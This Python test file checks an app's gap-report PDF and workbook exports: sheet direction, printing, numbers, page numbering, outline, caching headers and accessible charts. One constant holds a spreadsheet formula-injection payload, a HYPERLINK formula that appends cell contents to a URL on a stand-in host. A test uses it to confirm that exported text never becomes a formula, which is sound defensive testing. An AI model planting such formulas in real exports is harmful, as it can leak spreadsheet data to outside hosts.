"""The report as PDF and as workbook: their form, whatever the texts are."""

from __future__ import annotations

import re
from io import BytesIO
from zipfile import ZipFile

import pytest
from pypdf import PdfReader

from accredit.assessment.domain import Stage
from tests.assessments import walk_to
from tests.gap import workbook
from tests.gap.making import measure
from tests.pdf.reading import fonts, lines, texts
from tests.pdf.tree import read_tree

HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"scope")'


@pytest.fixture
def closed(arrange, cast):
    with arrange() as session:
        levels = {"1.1": "started", "2.1": "partial", "2.2": "started"}
        assessment = walk_to(session, cast, Stage.CLOSED, levels)
        assessment.scope_en = assessment.scope_ar = HOSTILE
        assessment.cycle = "+2026"
        for month in range(1, 10):
            measure(session, cast, "csat", 20 + month, 50, month=month)
        return f"/gap-reports/{assessment.id}"


@pytest.mark.parametrize("language", ["en", "ar"])
def test_the_workbook_runs_in_the_readers_direction_and_keeps_its_heads_in_sight(
    browse, cast, closed, language
):
    page = browse(cast.leader, language).get(closed + "/report.xlsx")
    assert page.status == 200
    assert "attachment" in page.headers["Content-Disposition"]
    sheets = workbook.read(page.body)
    assert all(sheet.rtl == (language == "ar") for sheet in sheets)
    # The first sheet is the overview, the last the explanation: neither is a table.
    assert [sheet.frozen for sheet in sheets[1:-1]] == [True] * (len(sheets) - 2)
    assert len({sheet.name.casefold() for sheet in sheets}) == len(sheets)
    assert all(0 < len(sheet.name) <= 31 for sheet in sheets)


def test_every_sheet_is_printed_as_wide_as_its_page_and_long_texts_have_room(browse, cast, closed):
    page = browse(cast.leader).get(closed + "/report.xlsx")
    with ZipFile(BytesIO(page.body)) as book:
        sheets = [
            book.read(name).decode()
            for name in book.namelist()
            if name.startswith("xl/worksheets/")
        ]
    assert len(sheets) > 4
    assert all('orientation="landscape"' in one and 'fitToHeight="0"' in one for one in sheets)
    (first,) = (one for one in sheets if "customHeight" in one and 'ref="A3:E' in one)
    heights = [float(found) for found in re.findall(r'ht="([0-9.]+)" customHeight', first)]
    assert max(heights) >= 45, "a reason takes several lines"


def test_figures_are_numbers_in_the_workbook(browse, cast, closed):
    sheets = {
        sheet.name: sheet
        for sheet in workbook.read(browse(cast.leader).get(closed + "/report.xlsx").body)
    }
    # (3×1 + 2×3 + 3×2 + 2×1) of 40; priorities 3×2×1.5 and 3×1×1, 2×1×1.
    assert {"42.5%", "45.0%", "40.0%"} <= sheets["Criteria"].numbers
    assert {"9", "3", "2"} <= sheets["Gaps"].numbers
    assert {"58.0%", "80.0%", "50"} <= sheets["KPIs"].numbers


@pytest.mark.parametrize("language", ["en", "ar"])
def test_no_text_becomes_a_formula(browse, cast, closed, language):
    sheets = workbook.read(browse(cast.leader, language).get(closed + "/report.xlsx").body)
    assert sum(sheet.formulas for sheet in sheets) == 0
    assert HOSTILE in sheets[0].texts
    assert "+2026" in sheets[0].texts


def test_the_language_of_a_download_can_be_asked_for(browse, cast, closed):
    reader = browse(cast.leader, "en")
    assert workbook.read(reader.get(closed + "/report.xlsx?lang=ar").body)[0].rtl
    english = PdfReader(BytesIO(reader.get(closed + "/report.pdf?lang=en").body))
    assert english.metadata["/Title"].startswith("Gap report · ")


@pytest.mark.parametrize(("language", "word"), [("en", "Page"), ("ar", "صفحة")])
def test_the_pdf_numbers_its_pages_and_has_an_outline(browse, cast, closed, language, word):
    page = browse(cast.leader, language).get(closed + "/report.pdf")
    assert page.headers["Content-Type"] == "application/pdf"
    assert ".pdf" in page.headers["Content-Disposition"]
    reader = PdfReader(BytesIO(page.body))
    pages = texts(page.body)
    assert len(pages) >= 4
    assert all(word in text and str(len(pages)) in text for text in pages)
    outline = [one for one in reader.outline if not isinstance(one, list)]
    # The criteria and the bars stand in tables; only the KPI's figures need an appendix.
    assert len(outline) == 7
    assert all(fonts(page.body).values())


def test_the_first_page_of_the_pdf_lists_the_parts_with_the_pages_they_begin_on(
    browse, cast, closed
):
    data = browse(cast.leader).get(closed + "/report.pdf").body
    reader = PdfReader(BytesIO(data))
    parts = [one for one in reader.outline if not isinstance(one, list)]
    shown = lines(data)
    assert "Contents" in shown, shown
    begin = shown.index("Contents") + 1
    assert shown[begin : begin + len(parts)] == [
        f"{one.title} {reader.get_destination_page_number(one) + 1}" for one in parts
    ]
    links = [one.get_object() for one in reader.pages[0].get("/Annots", [])]
    assert len(links) == len(parts)


def test_the_same_report_gives_the_same_files(browse, cast, closed):
    reader = browse(cast.leader)
    for part in ("/report.pdf", "/report.xlsx"):
        assert reader.get(closed + part).body == reader.get(closed + part).body


def test_downloads_are_not_kept_by_browsers(browse, cast, closed):
    for part in ("/report.pdf", "/report.xlsx"):
        page = browse(cast.leader).get(closed + part)
        assert page.headers["Cache-Control"] == "no-store"
        assert page.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("language", ["en", "ar"])
def test_the_pdf_is_read_out_with_its_charts_in_words(browse, cast, closed, language):
    page = browse(cast.leader, language).get(closed + "/report.pdf")

    tree = read_tree(page.body)
    kinds = [node.kind for node in tree.kids]
    charts = [node.alt for node in tree.kids if node.kind == "Figure"]
    assert kinds[0] == "H1"
    assert kinds.count("H1") == kinds.count("TOC") == 1
    assert {"H2", "H3", "P", "Table"} <= set(kinds)
    assert len(charts) >= 3
    assert all(len(words) > 20 for words in charts)
